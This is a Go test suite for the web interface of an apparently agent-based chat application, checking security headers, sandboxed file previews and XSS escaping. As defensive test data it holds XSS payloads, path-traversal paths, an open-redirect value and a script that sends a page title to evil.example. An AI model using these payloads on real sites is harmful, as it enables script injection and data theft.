package ui_test

import (
	"fmt"
	"html"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"fawn/agent"
	"fawn/agent/agenttest"
	"fawn/agent/agenttest/must"
	"fawn/store"
	"fawn/web/webtest"
)

const policy = "default-src 'none'; script-src 'self'; style-src 'self'; font-src 'self'; img-src 'self' data: blob:; media-src 'self' blob:; connect-src 'self'; frame-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'"

func TestEveryPageHasThePolicy(t *testing.T) {
	w := open(t,
		&agenttest.Script{Replies: []agenttest.Reply{agenttest.Call("c1", "echo", `{"a":1}`), agenttest.Say("Hello.")}})
	w.begin("t1", "Hi")
	w.settle("t1")
	w.writeFile("t1", "outputs/a.md", "# A")
	step := between(w.page("/workspace/chats/t1"), `/ui/threads/t1/steps/`, `"`)
	for path, want := range map[string]int{
		"/workspace/chats/new":                                    http.StatusOK,
		"/workspace/chats/new?q=hello":                            http.StatusOK,
		"/workspace/chats/t1":                                     http.StatusOK,
		"/workspace/chats/t1?file=mnt/user-data/outputs/a.md":     http.StatusOK,
		"/workspace/chats":                                        http.StatusOK,
		"/workspace/chats?q=hi&before=nonsense":                   http.StatusOK,
		"/workspace/chats/t1/files":                               http.StatusOK,
		"/workspace/chats/t1/files/mnt/user-data/outputs/a.md":    http.StatusOK,
		"/workspace/chats/t1/files/mnt/user-data/outputs/none.md": http.StatusNotFound,
		"/workspace/settings/appearance":                          http.StatusOK,
		"/workspace/settings/about":                               http.StatusOK,
		"/workspace/settings/secret":                              http.StatusNotFound,
		"/workspace/chats/none":                                   http.StatusNotFound,
		"/workspace/chats/..%2f..%2fetc":                          http.StatusNotFound,
		"/workspace/elsewhere":                                    http.StatusNotFound,
		"/ui/threads/t1/delete":                                   http.StatusOK,
		"/ui/threads/t1/steps/" + step:                            http.StatusOK,
		"/ui/threads/t1/steps/none":                               http.StatusNotFound,
	} {
		a := w.get(path)
		webtest.Same(t, "GET "+path, a.StatusCode, want)
		webtest.Same(t, fmt.Sprintf("GET %s: policy", path), a.Header.Get("Content-Security-Policy"), policy)
		if !strings.HasPrefix(a.body, "<!doctype html>") {
			t.Errorf("GET %s is no page: %.60s", path, a.body)
		}
	}
	if a := w.get("/"); a.StatusCode != http.StatusFound || a.Header.Get("Location") != "/workspace/chats/new" {
		t.Errorf("GET / = %d %s", a.StatusCode, a.Header.Get("Location"))
	}
}

func between(s, from, to string) string {
	_, s, _ = strings.Cut(s, from)
	s, _, _ = strings.Cut(s, to)
	return s
}

func (w *world) writeFile(thread, name, content string) {
	w.Helper()
	must.Do(w, w.dirs.Create(thread))
	err := os.WriteFile(filepath.Join(w.dirs.Root, "threads", thread, "user-data", filepath.FromSlash(name)),
		[]byte(content), 0o600)
	must.Do(w, err)
}

func TestRefusedMessages(t *testing.T) {
	w := open(t, &agenttest.Script{})
	for name, c := range map[string]struct {
		form   url.Values
		status int
	}{
		"empty":     {url.Values{"thread": {"t1"}, "text": {" \n "}}, http.StatusUnprocessableEntity},
		"too large": {url.Values{"thread": {"t1"}, "text": {strings.Repeat("x", 5<<20)}}, http.StatusRequestEntityTooLarge},
	} {
		t.Run(name, func(t *testing.T) {
			a := w.post("/ui/threads", c.form)
			if a.StatusCode != c.status || !strings.HasPrefix(a.body, "<!doctype html>") {
				t.Errorf("plain: %d", a.StatusCode)
			}
			if a := w.post("/ui/threads", c.form, script()...); a.StatusCode != c.status ||
				decodeFrame(t, a.body).Error == "" {
				t.Errorf("script: %d %s", a.StatusCode, a.body)
			}
		})
	}
	w.post("/ui/threads/none/messages", url.Values{"text": {"x"}}).want(t, "/ui/threads/none/messages", http.StatusNotFound)
	if _, total, err := w.db.Threads(t.Context(), store.ThreadQuery{}); err != nil || total != 0 {
		t.Error("a refused message made a thread", total, err)
	}
}

func TestRenameAndDelete(t *testing.T) {
	w := open(t, &agenttest.Script{})
	w.begin("t1", "Hi")
	w.settle("t1")
	a := w.post("/ui/threads/t1/rename", url.Values{"title": {"  New\nname "}})
	if a.StatusCode != http.StatusSeeOther || a.Header.Get("Location") != "/workspace/chats/t1" {
		t.Fatal(a.StatusCode, a.body)
	}
	f := decodeFrame(t, w.post("/ui/threads/t1/rename", url.Values{"title": {"Newer name"}}, script()...).body)
	if f.Title != "Newer name" || len(f.Swap) == 0 {
		t.Errorf("%+v", f)
	}
	snap, err := w.db.Snapshot(t.Context(), "t1", "")
	if err != nil || string(snap.Fields["title"]) != `"Newer name"` {
		t.Error("the state says", string(snap.Fields["title"]), err)
	}
	if a := w.post("/ui/threads/t1/rename", url.Values{"title": {"x"}}, "Referer",
		w.url+"/workspace/chats?page=2"); a.Header.Get("Location") != "/workspace/chats?page=2" {
		t.Error(a.Header.Get("Location"))
	}
	w.writeFile("t1", "outputs/a.md", "x")
	if a := w.post("/ui/threads/t1/delete", nil); a.StatusCode != http.StatusSeeOther ||
		!strings.HasPrefix(a.Header.Get("Location"), "/workspace/chats/new?undo=") {
		t.Error(a.StatusCode, a.Header.Get("Location"))
	}
	w.get("/workspace/chats/t1").want(t, "/workspace/chats/t1", http.StatusNotFound)
	w.post("/ui/threads/t1/delete", nil).want(t, "/ui/threads/t1/delete", http.StatusNotFound)
}

func TestPrefsAreKeptInACookie(t *testing.T) {
	w := open(t, &agenttest.Script{})
	a := w.post("/ui/prefs",
		url.Values{"theme": {"dark"}, "lang": {"zh-CN"}, "next": {"/workspace/settings/appearance"}})
	if a.StatusCode != http.StatusSeeOther || a.Header.Get("Location") != "/workspace/settings/appearance?saved=1" {
		t.Fatal(a.StatusCode, a.Header.Get("Location"))
	}
	cookie, _, _ := strings.Cut(a.Header.Get("Set-Cookie"), ";")
	webtest.Holds(t, "the answer", a.Header.Get("Set-Cookie"), "SameSite=Lax")
	page := w.get("/workspace/chats/new", "Cookie", cookie).body
	webtest.Holds(t, "page", page, `<html lang="zh-CN" data-theme="dark">`)
	a = w.post("/ui/prefs", url.Values{"theme": {`"><script>`}, "lang": {"xx"}, "next": {"//evil.example/x"}},
		"Cookie", cookie)
	again, _, _ := strings.Cut(a.Header.Get("Set-Cookie"), ";")
	if a.Header.Get("Location") != "/workspace/chats/new" || again != cookie {
		t.Error(a.Header.Get("Location"), again)
	}
	webtest.Holds(t, "a broken cookie broke the page", w.get("/workspace/chats/new", "Cookie", `fawn_prefs=%zz;theme`).body, `data-theme="system"`)
}

func TestHostileTextsAreInert(t *testing.T) {
	evil := `<script>alert(1)</script><img src=x onerror=alert(2)>`
	w := open(t, &agenttest.Script{Replies: []agenttest.Reply{
		{
			Chunks: []agent.Chunk{{Reasoning: evil}, {Text: evil},
				{Calls: []agent.CallDelta{{ID: `"><script>`, Name: `<script>x`, Args: `{"path":"<script>y"}`}}},
				{Finish: "tool_calls"}},
		},
		agenttest.Say(evil, "\n\n[x](javascript:alert(3))"),
	}})
	w.writeFile("t1", "uploads/<img src=x onerror=alert(4)>.txt", "1")
	w.begin("t1", evil)
	r := w.reader("t1")
	r.read(0)
	w.settle("t1")
	r.equalsPage()
	w.post("/ui/threads/t1/rename", url.Values{"title": {evil}}).must(t, "/ui/threads/t1/rename", http.StatusSeeOther)
	for _, path := range []string{"/workspace/chats/t1", "/workspace/chats",
		"/workspace/chats/new?q=" + url.QueryEscape(evil), "/ui/threads/t1/delete",
		"/workspace/chats/t1/files/mnt/user-data/outputs/" + url.PathEscape(evil[:20])} {
		body := w.get(path).body
		webtest.Holds(t, fmt.Sprintf("%s has", path), body, "!<script>alert", "!<script>x", "!<script>y", "!<img src=x", `!href="javascript`)
	}
}

func TestErrorsComeInTheFormThatWasAskedFor(t *testing.T) {
	w := open(t, &agenttest.Script{})
	toast := w.get("/ui/threads/none/steps/x", "HX-Request", "true")
	if toast.StatusCode != 404 || toast.Header.Get("HX-Retarget") != "#toasts" ||
		toast.Header.Get("HX-Reswap") != "beforeend" || strings.Contains(toast.body, "<html") {
		t.Errorf("htmx: %d %v %s", toast.StatusCode, toast.Header, toast.body)
	}
	if a := w.post("/ui/threads/none/stop", nil, script()...); a.StatusCode != 404 ||
		decodeFrame(t, a.body).Error == "" {
		t.Errorf("script: %d %s", a.StatusCode, a.body)
	}
	if a := w.get("/ui/threads/none/panel", "X-Fawn", "1"); a.StatusCode != 404 || strings.Contains(a.body, "<html") ||
		a.body == "" {
		t.Errorf("panel: %d %s", a.StatusCode, a.body)
	}
	w.get("/workspace/chats/none", "Accept", "application/json").want(t, "program", 404, `"detail"`)
	must.Do(t, w.db.Close())
	a := w.get("/workspace/chats/new")
	if a.StatusCode < 500 || !strings.HasPrefix(a.body, "<!doctype html>") ||
		a.Header.Get("Content-Security-Policy") != policy {
		t.Errorf("without a store: %d %.80s", a.StatusCode, a.body)
	}
}

func TestViewIsLockedIntoASandbox(t *testing.T) {
	w := open(t, &agenttest.Script{})
	w.writeFile("t1", "outputs/a.html", "<!doctype html><script>x</script>")
	w.writeFile("t1", "outputs/a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>`)
	w.writeFile("t1", "outputs/a.png", "\x89PNG\r\n\x1a\n0000")
	for name, sandboxed := range map[string]bool{"a.html": true, "a.svg": true, "a.png": false} {
		a := w.get("/ui/threads/t1/view/mnt/user-data/outputs/"+name, "Sec-Fetch-Dest", "iframe")
		csp := a.Header.Get("Content-Security-Policy")
		if a.StatusCode != 200 || strings.Contains(csp, "sandbox allow-scripts;") != sandboxed ||
			!strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "allow-same-origin") ||
			a.Header.Get("X-Content-Type-Options") != "nosniff" || a.Header.Get("Set-Cookie") != "" {
			t.Errorf("%s: %d %v", name, a.StatusCode, a.Header)
		}
	}
	for _, path := range []string{"etc/passwd", "mnt/user-data/outputs/..%2f..%2f..%2ffawn.db", "mnt/user-data/outputs",
		"mnt/user-data/outputs/none", "mnt/user-data/outputs/a.html/b"} {
		if a := w.get("/ui/threads/t1/view/" + path); a.StatusCode < 400 || a.StatusCode >= 500 {
			t.Errorf("%s = %d", path, a.StatusCode)
		}
	}
}

// TestAPageOfAnAgentOpenedAloneIsFramed: on its own it could go to another address with what is in it.
func TestAPageOfAnAgentOpenedAloneIsFramed(t *testing.T) {
	w := open(t, &agenttest.Script{})
	const text = "<!doctype html><script>location = 'https://evil.example/?' + document.title</script>"
	w.writeFile("t1", "outputs/a b.html", text)
	w.writeFile("t1", "outputs/a.txt", "plain")
	const at = "/ui/threads/t1/view/mnt/user-data/outputs/"
	alone := []string{"Accept", "text/html,*/*"}
	for name, headers := range map[string][]string{"a browser": append(alone, "Sec-Fetch-Dest", "document"),
		"over plain HTTP": alone} {
		a := w.get(at+"a%20b.html", headers...)
		csp := a.Header.Get("Content-Security-Policy")
		src := regexp.MustCompile(`<iframe sandbox="allow-scripts"[^>]* src="\./(a%20b\.html\?framed=[0-9a-f]+)"`).
			FindStringSubmatch(a.body)
		if src == nil || strings.Contains(a.body, "evil") || !strings.Contains(csp, "frame-src 'self'") ||
			!strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
			t.Fatalf("%s: %d %s %s", name, a.StatusCode, csp, a.body)
		}
		if in := w.get(at+src[1], alone...); in.body != text ||
			!strings.Contains(in.Header.Get("Content-Security-Policy"), "sandbox allow-scripts;") {
			t.Errorf("%s: the frame: %v %s", name, in.Header, in.body)
		}
		w.get(at+src[1], append(alone, "Sec-Fetch-Dest", "document")...).holds(t, fmt.Sprintf("%s: the address of the frame, on its own", name), "<iframe")
	}
	w.get(at+"a%20b.html?framed=abc", alone...).holds(t, "a mark that was made up", "<iframe")
	webtest.Same(t, "the preview", w.get(at+"a%20b.html", append(alone, "Sec-Fetch-Dest", "iframe")...).body, text)
	webtest.Same(t, "a text", w.get(at+"a.txt", append(alone, "Sec-Fetch-Dest", "document")...).body, "plain")
}

func TestStepAndSourceShowTheWhole(t *testing.T) {
	long := strings.Repeat("line\n", 100_000)
	w := open(t,
		&agenttest.Script{
			Replies: []agenttest.Reply{agenttest.Call("c1", "echo", `{"a":"`+strings.ReplaceAll(long, "\n", " ")+`"}`),
				agenttest.Say("**bold**")},
		})
	w.begin("t1", "Hi")
	w.settle("t1")
	page := w.page("/workspace/chats/t1")
	step := "/ui/threads/t1/steps/" + between(page, `/ui/threads/t1/steps/`, `"`)
	part := w.get(step, "HX-Request", "true")
	if strings.Contains(part.body, "<html") || !strings.Contains(part.body, step+"?raw=1") || len(part.body) > 4<<20 {
		t.Errorf("details of %d bytes", len(part.body))
	}
	if raw := w.get(step + "?raw=1"); !strings.HasPrefix(raw.Header.Get("Content-Type"), "text/plain") ||
		len(raw.body) < len(long) {
		t.Errorf("raw: %s, %d bytes", raw.Header.Get("Content-Type"), len(raw.body))
	}
	source := regexp.MustCompile(`/ui/threads/t1/messages/[^"]+/raw`).FindString(page)
	if a := w.get(source); a.body != "**bold**" || !strings.HasPrefix(a.Header.Get("Content-Type"), "text/plain") {
		t.Errorf("%s = %q", source, a.body)
	}
}

func TestLongThreadsShowTheLastTurns(t *testing.T) {
	w := open(t, &agenttest.Script{})
	for i := range 35 {
		w.begin("t1", "message "+string(rune('A'+i)))
		w.settle("t1")
	}
	page := w.page("/workspace/chats/t1")
	if n := strings.Count(page, "<article"); n != 30 || strings.Contains(page, ">message A<") {
		t.Errorf("%d turns", n)
	}
	earlier := html.UnescapeString(between(between(page, `id="earlier"`, ">"), `href="`, `"`))
	all := w.page(strings.Split(earlier, "#")[0])
	n := strings.Count(all, "<article")
	if n != 35 || !strings.Contains(all, ">message A<") || strings.Contains(all, `id="earlier"`) {
		t.Errorf("%s: %d turns, and the newest should be among them", earlier, n)
	}
	part := w.get(html.UnescapeString(between(page, `data-turns="`, `"`)), "X-Fawn", "1")
	if n := strings.Count(part.body, "<article"); part.StatusCode != http.StatusOK || n != 5 ||
		strings.Contains(part.body, "<html") || !strings.Contains(part.body, ">message A<") ||
		strings.Contains(part.body, `class="gap"`) || strings.Contains(part.body, " last\"") {
		t.Errorf("%d, %d turns: %s", part.StatusCode, n, part.body)
	}
}
